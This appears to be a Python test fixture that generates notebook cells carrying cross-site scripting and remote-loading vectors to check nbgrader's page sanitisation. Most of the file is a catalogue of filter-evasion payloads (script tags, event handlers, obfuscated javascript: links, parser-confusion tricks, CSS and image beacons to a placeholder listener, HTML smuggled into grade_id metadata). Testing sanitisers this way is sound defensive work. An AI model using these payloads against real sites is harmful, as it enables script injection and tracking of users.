"""Attacks in the form of a cell, each of which runs or loads something on nbgrader's own pages.

`ran("NAME")` reports that a script ran; LISTENER/NAME is an address that records who requests it. A vector is text of
a Markdown cell, or an output of a code cell. OWASP's list of filter evasions, mutations of it, and what notebooks add.
"""

from __future__ import annotations

from typing import Any

from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

RUN = "ran('NAME')"
IMG = f'<img src="x" onerror="{RUN}">'

# Text that is HTML; each is tried as Markdown and as an HTML output.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script-with-attribute": f"<script/x>{RUN}</script>",
    "script-in-capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "script-after-a-bracket": f"<<script>{RUN}//<</script>",
    "script-module": f'<script type="module">{RUN}</script>',
    "script-from-elsewhere": '<script src="LISTENER/NAME"></script>',
    "script-in-svg": f"<svg><script>{RUN}</script></svg>",
    "script-in-svg-with-address": f'<svg><script href="data:text/javascript,{RUN}"></script></svg>',
    "script-in-math": f"<math><mtext><script>{RUN}</script></mtext></math>",
    "script-in-frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame-javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "frame-data": f'<iframe src="data:text/html,<script>{RUN}</script>"></iframe>',
    "object-data": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed-data": f'<embed src="data:text/html,<script>{RUN}</script>">',
    "error-of-a-picture": IMG,
    "error-without-quotes": f"<img src=x onerror={RUN}>",
    "error-with-slashes": f'<img/src="x"/onerror="{RUN}">',
    "error-in-capitals": f"<IMG SRC=x OnErRoR={RUN}>",
    "error-over-lines": f"<img\nsrc=x\nonerror\n=\n{RUN}>",
    "error-with-entities": "<img src=x onerror=&#114;an(&#x27;NAME&#x27;)>",
    "error-in-a-table": f"<table><tr><td>{IMG}</td></tr></table>",
    "error-of-a-video": f"<video><source onerror={RUN}></video>",
    "error-of-audio": f"<audio src=x onerror={RUN}></audio>",
    "error-of-an-svg-image": f'<svg><image href="x" onerror="{RUN}"></image></svg>',
    "load-of-svg": f"<svg onload={RUN}></svg>",
    "load-of-style": f"<style onload={RUN}></style>",
    "load-of-a-frame": f"<iframe onload={RUN}></iframe>",
    "load-of-a-picture": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload={RUN} onerror={RUN}>',
    "toggle": f"<details open ontoggle={RUN}>text</details>",
    "focus": f"<input autofocus onfocus={RUN}>",
    "focus-of-text": f"<p tabindex=0 autofocus onfocus={RUN}>text</p>",
    "animation": f'<style>@keyframes k{{}}</style><p style="animation-name:k" onanimationstart="{RUN}">text</p>',
    "begin-of-animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    "click": f"<p onclick={RUN}>text</p>",
    "link": f'<a href="javascript:{RUN}">text</a>',
    "link-in-capitals": f'<a href="JaVaScRiPt:{RUN}">text</a>',
    "link-with-entity": f'<a href="java&#115;cript:{RUN}">text</a>',
    "link-with-tab": f'<a href="java&#9;script:{RUN}">text</a>',
    "link-with-line-end": f'<a href="java&#10;script:{RUN}">text</a>',
    "link-after-control-letter": f'<a href="&#14; javascript:{RUN}">text</a>',
    "link-in-svg": f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">text</text></a></svg>',
    "link-set-by-animation": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/>'
    '<text x="20" y="20">text</text></a></svg>',
    "form": f'<form action="javascript:{RUN}"><input type="submit"></form>',
    "form-of-a-button": f'<form><button formaction="javascript:{RUN}">text</button></form>',
    "attribute-ends-noscript": f'<noscript><p title="</noscript>{IMG.replace(chr(34), "")}"></p></noscript>',
    "attribute-ends-textarea": f'<textarea><p title="</textarea>{IMG.replace(chr(34), "")}"></p></textarea>',
    "attribute-ends-style": f'<style><p title="</style>{IMG.replace(chr(34), "")}"></p></style>',
    "attribute-ends-xmp": f'<xmp><p title="</xmp>{IMG.replace(chr(34), "")}"></p></xmp>',
    "attribute-ends-noembed": f'<noembed><p title="</noembed>{IMG.replace(chr(34), "")}"></p></noembed>',
    "attribute-ends-frame": f'<iframe><p title="</iframe>{IMG.replace(chr(34), "")}"></p></iframe>',
    "attribute-ends-comment": f'<!--<p title="-->{IMG.replace(chr(34), "")}"></p>',
    "comment-that-ends-early": f"<!-->{IMG}-->",
    "cdata": f"<![CDATA[>{IMG}]]>",
    "svg-left-by-a-tag": f"<svg><p>{IMG}</p></svg>",
    "foreign-object": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "svg-description": f"<svg><desc>{IMG}</desc></svg>",
    "math-text": f"<math><mtext>{IMG}</mtext></math>",
    "math-annotation": f'<math><annotation-xml encoding="text/html">{IMG}</annotation-xml></math>',
    "picture-from-elsewhere": '<img src="LISTENER/NAME">',
    "picture-without-scheme": '<img src="//HOST/NAME">',
    "picture-after-a-space": '<img src=" //HOST/NAME">',
    "picture-after-a-control-letter": '<img src="&#1;//HOST/NAME">',
    "picture-with-backslashes": r'<img src="http:\\HOST\NAME">',
    "picture-set": '<img srcset="LISTENER/NAME 1x">',
    "picture-source": '<picture><source srcset="LISTENER/NAME"><img src="x"></picture>',
    "video-poster": '<video poster="LISTENER/NAME"></video>',
    "audio": '<audio src="LISTENER/NAME" autoplay></audio>',
    "input-picture": '<input type="image" src="LISTENER/NAME">',
    "svg-picture": '<svg><image href="LISTENER/NAME" width="9" height="9"></image></svg>',
    "frame": '<iframe src="LISTENER/NAME"></iframe>',
    "object": '<object data="LISTENER/NAME"></object>',
    "embed": '<embed src="LISTENER/NAME">',
    "refresh": '<meta http-equiv="refresh" content="0;url=LISTENER/NAME">',
    "base": '<base href="LISTENER/"><img src="NAME">',
    "style-sheet": '<link rel="stylesheet" href="LISTENER/NAME">',
    "preload": '<link rel="preload" as="image" href="LISTENER/NAME">',
    "css-import": '<style>@import "LISTENER/NAME";</style>',
    "css-import-in-capitals": "<style>@IMPORT url(LISTENER/NAME);</style>",
    "css-of-the-page": "<style>body{background:url(LISTENER/NAME)}</style>",
    "css-variable": "<style>:root{--a:url(LISTENER/NAME)} p{background:var(--a)}</style><p>text</p>",
    "css-font": "<style>@font-face{font-family:f;src:url(LISTENER/NAME)} *{font-family:f}</style><p>text</p>",
    "css-content": '<style>p::before{content:url("LISTENER/NAME")}</style><p>text</p>',
    "css-set": '<style>p{background:image-set("LISTENER/NAME" 1x)}</style><p>text</p>',
    "css-attribute": '<p style="background:url(LISTENER/NAME)">text</p>',
    "css-attribute-with-escape": r'<p style="background:\75rl(LISTENER/NAME)">text</p>',
    "css-list": '<ul style="list-style:url(LISTENER/NAME)"><li>text</li></ul>',
    "css-border": '<p style="border:9px solid;border-image:url(LISTENER/NAME) 9">text</p>',
    "svg-fill": '<svg style="mask-image:url(LISTENER/NAME)"><rect width="9" height="9"></rect></svg>',
    "table-background": '<table background="LISTENER/NAME"><tr><td>text</td></tr></table>',
}

# What only Markdown makes of it.
MARKDOWN = {
    "markdown-picture": "![text](LISTENER/NAME)",
    "markdown-link": f"[text](javascript:{RUN})",
    "markdown-picture-by-reference": "![text][there]\n\n[there]: LISTENER/NAME",
    "markdown-link-by-reference": f"[text][there]\n\n[there]: javascript:{RUN}",
    "markdown-heading": f"# text {IMG}",
    "markdown-table": f"| a |\n|---|\n| {IMG} |",
}


def cells(name: str, listener: str) -> list[Any]:
    """The cells of one vector."""

    def fill(text: str) -> str:
        return text.replace("NAME", name).replace("LISTENER", listener).replace("HOST", listener.partition("//")[2])

    def shown(data: dict[str, Any], **metadata: Any) -> list[Any]:
        output = new_output("display_data", {kind: fill(text) for kind, text in data.items()}, metadata=metadata)
        return [new_code_cell("", outputs=[output])]

    if name in MARKDOWN:
        return [new_markdown_cell(fill(MARKDOWN[name]))]
    if name in MARKUP:
        return [new_markdown_cell(fill(f"<div>{MARKUP[name]}</div>"))]  # a block that Markdown leaves alone
    if name.removeprefix("output-") in MARKUP:
        return shown({"text/html": MARKUP[name.removeprefix("output-")]})
    if name == "output-javascript":
        return shown({"application/javascript": RUN})
    if name == "output-markdown":
        return shown({"text/markdown": IMG})
    if name == "output-isolated":
        return shown({"text/html": MARKUP["script"]}, **{"text/html": {"isolated": True}})
    if name == "output-picture-width":
        return shown({"image/png": "AAAA"}, **{"image/png": {"width": fill(f"1 onerror={RUN}")}})
    if name == "output-picture-data":
        return shown({"image/png": f'" onerror="{RUN}'})
    if name == "grade-id":
        marks = {"grade_id": fill(f'">{IMG}'), "grade": True, "solution": False, "locked": True, "task": False}
        return [new_code_cell("1", metadata={"nbgrader": {**marks, "points": 1, "score": 0, "schema_version": 3}})]
    raise KeyError(name)


OUTPUTS = [f"output-{name}" for name in ("script", "error-of-a-picture", "load-of-svg", "css-import", "link", "frame")]
OTHERS = ["output-markdown", "output-isolated", "output-picture-width", "grade-id"]
# nbconvert's last step happens to undo these; they work where a page is left as it was written.
UNDONE = {f"attribute-ends-{tag}" for tag in ("noscript", "textarea", "xmp", "noembed", "frame")}
NEED_A_SERVER = {  # jQuery, or a scheme
    *("output-javascript", "picture-without-scheme"),
    *("picture-after-a-space", "picture-after-a-control-letter"),
}
NAMES = [*MARKUP, *MARKDOWN, *OUTPUTS, *OTHERS, "output-javascript"]
